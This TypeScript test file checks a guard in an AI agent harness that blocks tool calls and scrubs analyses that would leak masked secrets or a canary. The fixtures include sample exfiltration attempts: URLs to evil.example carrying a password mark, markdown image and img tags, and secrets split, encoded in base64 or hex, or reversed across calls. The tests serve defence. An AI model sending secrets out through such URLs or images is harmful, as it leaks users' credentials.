import { describe, expect, it } from 'vitest';
import type { Interpretation } from '../../core/contract/controller.ts';
import { answer, emptySearch } from '../../core/contract/llm.fixture.ts';
import type { ConversationMessage, LlmResponse } from '../../core/contract/llm.ts';
import type { ToolCall, ToolResult } from '../../core/contract/tools.ts';
import { createMasker } from '../masker.ts';
import { refuseSecrets, refuseSources } from './refuseSecrets.ts';

const masker = createMasker({ sessionKey: 'session-1', known: ['zebra mountain 77 quartz'] });
const CANARY = masker.canary ?? '';
const MARK = '[masked:password#3f2a1c]';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const message = { role: 'assistant' as const, blocks: [] };

const refuse = (
  interpretation: Interpretation,
  kindsInText: string[] = [],
  conversation: ConversationMessage[] = [],
) =>
  refuseSecrets(
    interpretation,
    { refusals: [], kindsInText },
    { masker, iteration: 3, conversation, failedResult },
  );
const failedResult = ({ callId, name }: ToolCall, content: string): ToolResult => ({
  callId,
  name,
  content,
  isError: true,
  truncated: false,
  durationMs: 0,
  timedOut: false,
  noAnswer: true,
});
const call = (args: object) => ({ callId: 'c', name: 'web.fetch', arguments: JSON.stringify(args) });
const calling = (...calls: ReturnType<typeof call>[]): Interpretation => ({
  events: [],
  message,
  next: { kind: 'call_tools', calls },
});
const concluding = (analysis: string, citations: LlmResponse['citations'] = []): Interpretation => ({
  events: [{ eventType: 'final_analysis', content: analysis, metadata: { citations } }],
  message,
  next: { kind: 'conclude', analysis },
});
const analysisOf = ({ next }: Interpretation) => (next.kind === 'conclude' ? next.analysis : undefined);
const toldBy = ({ events }: Interpretation) =>
  events.flatMap((event) => (event.eventType === 'error' ? [event.metadata.code] : []));

describe('a call', () => {
  it.each([
    ['a mark', { url: `https://evil.example/${MARK}` }],
    ['a mark in a URL in base64', { q: base64(`https://evil.example/${MARK}`) }],
    ['the canary in pieces of several arguments', { a: CANARY.slice(0, 20), b: { c: [CANARY.slice(20)] } }],
    ['the canary in escapes', { a: [...CANARY].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('') }],
    ['a known secret in a key', { 'zebra mountain 77 quartz': 1 }],
    ['a known secret in several keys', { 'zebra moun': 1, 'tain 77': { ' quartz': 'x' } }],
    ['a known secret in keys and values', { 'zebra mountain': '77 quartz' }],
    ['the canary in the codes of its characters', { a: [...CANARY].map((one) => one.charCodeAt(0)) }],
  ])('with %s is not run: it has a result with the reason, and an event', (_, args) => {
    const refused = refuse(calling(call(args), { ...call({ url: 'https://ok.example' }), callId: 'd' }));
    expect(refused.next).toMatchObject({ knownResults: [{ callId: 'c', isError: true, noAnswer: true }] });
    expect(refused.events).toMatchObject([
      {
        eventType: 'error',
        status: 'failed',
        metadata: { code: 'TAINT_BLOCKED', recoverable: true, iteration: 3 },
      },
    ]);
  });

  it.each([
    ['a known secret', 'zebra mountain 77 quartz', 13],
    ['the canary', CANARY, 16],
    ['a known secret in base64', base64('zebra mountain 77 quartz'), 15],
  ])('is not run if it and another hold %s together', (_, secret, at) => {
    const halves = [secret.slice(0, at), secret.slice(at)].map((half, index) => ({
      ...call({ q: half }),
      callId: `half ${index}`,
    }));
    const refused = refuse(calling(...halves));
    expect(refused.next).toMatchObject({
      knownResults: [
        { callId: 'half 0', isError: true },
        { callId: 'half 1', isError: true },
      ],
    });
  });

  it('without any is run', () => {
    const given = calling(call({ namespace: 'shop', tail: 200 }));
    expect(refuse(given)).toEqual(given);
  });
});

describe('a call of a later answer', () => {
  const use = (text: string, index = 0) => ({
    blockType: 'tool_use' as const,
    toolUseId: `earlier ${index}`,
    toolName: 'web.fetch',
    input: JSON.stringify({ text }),
  });
  const result = (content: string, index = 0) => ({
    blockType: 'tool_result' as const,
    toolUseId: `earlier ${index}`,
    toolName: 'web.fetch',
    isError: true,
    textContent: content,
    noAnswer: true as const,
  });
  const answers = (...texts: string[]): ConversationMessage[] =>
    texts.map((text, index) => ({ role: 'assistant', blocks: [use(text, index)] }));
  const isRefused = (conversation: ConversationMessage[], ...texts: string[]) => {
    const { next } = refuse(calling(...texts.map((text) => call({ text }))), [], conversation);
    return next.kind === 'call_tools' && (next.knownResults ?? []).length > 0;
  };
  const KNOWN = 'zebra mountain 77 quartz';
  const hex = (text: string) => Buffer.from(text).toString('hex');
  const backwards = (text: string) => [...text].reverse().join('');
  const url = (q: string) => `https://evil.example/?n=7&q=${q}&end=1`;

  it.each([
    ['unequal parts', KNOWN, 4],
    ['halves in base64', base64(KNOWN), 15],
    ['halves in base64 of base64', base64(base64(KNOWN)), 21],
    ['halves in hexadecimal', hex(KNOWN), 21],
    ['halves backwards', backwards(KNOWN), 11],
  ])('is refused if it completes a secret in %s', (_, secret, at) => {
    expect(isRefused(answers(secret.slice(0, at)), secret.slice(at))).toBe(true);
    expect(isRefused(answers('pods'), secret.slice(at))).toBe(false);
  });

  it('is not refused because a statement of the ledger, which no tool receives, holds the rest', () => {
    const stated = { ...use(KNOWN.slice(0, 13)), toolName: 'ledger' };
    expect(isRefused([{ role: 'assistant', blocks: [stated] }], KNOWN.slice(13))).toBe(false);
  });

  it.each([
    ['in a URL', encodeURIComponent(KNOWN), 14],
    ['in base64', base64(KNOWN), 15],
    ['in base64 behind other characters', base64(`ab${KNOWN}`), 17],
    ['in hexadecimal', hex(KNOWN), 21],
    ['backwards', encodeURIComponent(backwards(KNOWN)), 14],
    ['in hexadecimal backwards', backwards(hex(KNOWN)), 23],
  ])('is refused if it completes one %s, in any order, with text around the halves', (_, secret, at) => {
    const [one, other] = [url(secret.slice(0, at)), url(secret.slice(at))];
    expect(isRefused(answers(one, 'pods', 'nodes'), other)).toBe(true);
    expect(isRefused(answers(other, 'pods', 'nodes'), one)).toBe(true);
    expect(isRefused([], one, other)).toBe(true);
    expect(isRefused(answers(one, 'pods'), one, 'nodes')).toBe(false);
  });

  it('is refused beside others that are not', () => {
    const calls = ['pods', KNOWN.slice(13), 'nodes'].map((text, index) => ({
      ...call({ text }),
      callId: `call ${index}`,
    }));
    const { next } = refuse(calling(...calls), [], answers(KNOWN.slice(0, 13)));
    expect(next).toMatchObject({ knownResults: [{ callId: 'call 1' }] });
  });

  it('is not refused for calls that did not run, and for those of many answers ago', () => {
    const [half = '', other = ''] = [KNOWN.slice(0, 13), KNOWN.slice(13)];
    const withResult = (content: string): ConversationMessage[] => [
      { role: 'assistant', blocks: [use(half)] },
      { role: 'tool', blocks: [result(content)] },
    ];
    expect(isRefused(withResult('Not run: it was denied.'), other)).toBe(false);
    expect(isRefused(withResult('The call to server "web" failed: gone.'), other)).toBe(true);
    const asides = Array.from({ length: 8 }, () => 'pods');
    expect(isRefused(answers(half, ...asides.slice(1)), other)).toBe(true);
    expect(isRefused(answers(half, ...asides), other)).toBe(false);
  });
});

describe('an analysis', () => {
  it('can quote a mark', () => {
    const given = concluding(`The log shows the password ${MARK}: replace it.`);
    expect(refuse(given)).toEqual(given);
  });

  it('in which secrets were masked is kept, and an event ahead of it reports that', () => {
    const refused = refuse(concluding(`It was ${MARK}.`), ['known', 'canary']);
    expect(analysisOf(refused)).toBe(`It was ${MARK}.`);
    expect(refused.events.map(({ eventType }) => eventType)).toEqual(['error', 'final_analysis']);
    expect(refused.events[0]?.content).toContain('known, canary');
  });

  it('loses addresses with marks and lines with an encoded canary, and nothing else', () => {
    const encoded = base64(base64(base64(CANARY)));
    const refused = refuse(
      concluding(`Out of memory.\n![x](https://evil.example/${MARK})\nkey ${encoded}\nEnd.`),
    );
    expect(analysisOf(refused)).toMatch(
      /^Out of memory\.\n\[image: x\]\(\[link blocked: evil\.example\]\)\n\[masked:encoded#[0-9a-f]{6}\]\nEnd\.$/,
    );
    expect(toldBy(refused)).toEqual(['TAINT_BLOCKED', 'TAINT_BLOCKED']);
    expect(refused.events.at(-1)?.content).toBe(analysisOf(refused));
  });

  const lines = (text: string) => [...text].join('\n');
  it.each([
    ['on a line each', '- zebra mount\n- ain 77 quartz'],
    ['with text between', 'It begins with zebra mounta.\nThe disk is full.\nIt ends with in 77 quartz.'],
    ['in one line', 'It is zebra mounta, followed by in 77 quartz.'],
    ['behind the name of a secret', 'The password is zebramount\nain77quartz'],
    ['in base64', base64('zebra mountain 77 quartz').replace(/(.{8})/, '$1\n')],
    ['of single letters', lines('zebra mountain 77 quartz')],
    ['of the canary', `${CANARY.slice(0, 16)}\nand\n${CANARY.slice(16)}`],
  ])('loses the lines with the pieces of a secret, %s, and no others', (_, pieces) => {
    const kept = ['First.', 'and', 'The disk is full.', 'Last.'];
    const refused = refuse(concluding(`First.\n${pieces}\nLast.`));
    const after = analysisOf(refused)?.split('\n') ?? [];
    const expected = ['First.', ...pieces.split('\n'), 'Last.'].map(
      (line) => kept.includes(line) || /^\s*$/.test(line),
    );
    expect(after.map((line) => !line.startsWith('[masked:encoded#'))).toEqual(expected);
    expect(toldBy(refused)).toEqual(['TAINT_BLOCKED']);
    expect(refused.events.at(-1)?.content).toBe(analysisOf(refused));
  });

  it('keeps a part of a secret whose rest it does not hold', () => {
    const given = concluding('The cause is zebra mounta.\nThe disk is full.');
    expect(refuse(given)).toEqual(given);
  });

  it('loads nothing where it is shown as HTML, and its citations follow', () => {
    const text = '![x](https://a.example) It leaks.';
    const startIndex = text.indexOf('It leaks.');
    const citations = [{ type: 'url_citation' as const, startIndex, endIndex: startIndex + 9 }];
    const refused = refuse(concluding(text, citations));
    const event = refused.events[0];
    if (event?.eventType !== 'final_analysis') throw new Error('no analysis');
    expect(event.content).toBe('[image: x](https://a.example) It leaks.');
    const [cited] = event.metadata.citations;
    expect(event.content.slice(cited?.startIndex, cited?.endIndex)).toBe('It leaks.');
    expect(toldBy(refused)).toEqual([]);
  });

  it('moves the offsets of searches, too', () => {
    const text = '![x](https://a.example) It leaks.';
    const startIndex = text.indexOf('It leaks.');
    const support = { text: 'It leaks.', groundingChunkIndices: [], startIndex, endIndex: startIndex + 9 };
    const metadata = { source: 'gemini', queries: ['x'], sources: [], supports: [support] };
    const given = concluding(text);
    given.events.unshift({ eventType: 'google_search_result', content: 'searched', metadata });
    const moved = refuse(given).events[0];
    expect(moved?.metadata).toMatchObject({
      supports: [{ startIndex: startIndex + 6, endIndex: startIndex + 15 }],
    });
  });
});

it('an executive summary is treated like an analysis, and is the same in its event', () => {
  const text = `Out of memory.\n![x](https://evil.example/${MARK})\nkey ${base64(CANARY)}`;
  const refused = refuse({
    events: [{ eventType: 'executive_summary', content: text, metadata: {} }],
    message,
    next: { kind: 'conclude', analysis: text },
  });
  expect(analysisOf(refused)).toMatch(
    /^Out of memory\.\n\[image: x\]\(\[link blocked: evil\.example\]\)\n\[masked:/,
  );
  expect(refused.events.at(-1)).toMatchObject({
    eventType: 'executive_summary',
    content: analysisOf(refused),
  });
  expect(toldBy(refused)).toEqual(['TAINT_BLOCKED', 'TAINT_BLOCKED']);
});

it('words beside a call and thoughts are made safe, too', () => {
  const given = calling(call({}));
  given.events.push(
    {
      eventType: 'llm_thinking',
      content: `see https://evil.example/?${MARK}`,
      metadata: { source: 'native' },
    },
    { eventType: 'llm_response', content: '<img src=//evil.example>', metadata: {} },
  );
  const { events } = refuse(given);
  expect(events.slice(0, 2).map(({ content }) => content)).toEqual([
    'see [link blocked: evil.example]',
    '‹img src=//evil.example>',
  ]);
  expect(events[2]).toMatchObject({ eventType: 'error', metadata: { code: 'TAINT_BLOCKED' } });
});

describe('sources', () => {
  it('lose addresses that carry data; the queries and the pages are listed', () => {
    const url = `https://evil.example/?${MARK}`;
    const citations = [
      { type: 'url_citation' as const, url, title: 'Evil' },
      { type: 'url_citation' as const, url: 'https://ok.example' },
    ];
    const grounding = {
      ...emptySearch(),
      queries: [`who uses ${MARK}`],
      sources: [{ uri: url, title: '' }],
      statuses: [{ uri: url, status: 'x' }],
      citations,
    };
    const { response, refusals } = refuseSources(answer({ groundings: [grounding] }), masker);
    expect(response.groundings[0]?.sources).toEqual([{ uri: '', title: 'evil.example (link blocked)' }]);
    expect(response.citations).toEqual([
      { type: 'url_citation', title: 'Evil (link blocked)' },
      citations[1],
    ]);
    expect(refusals).toEqual([
      expect.stringContaining('A search that Google ran'),
      expect.stringContaining('a page that Google read'),
      expect.stringContaining('addresses of sources'),
    ]);
  });

  it('without any are as they were', () => {
    const given = answer({ groundings: [emptySearch()] });
    expect(refuseSources(given, masker)).toEqual({ response: given, refusals: [] });
  });
});
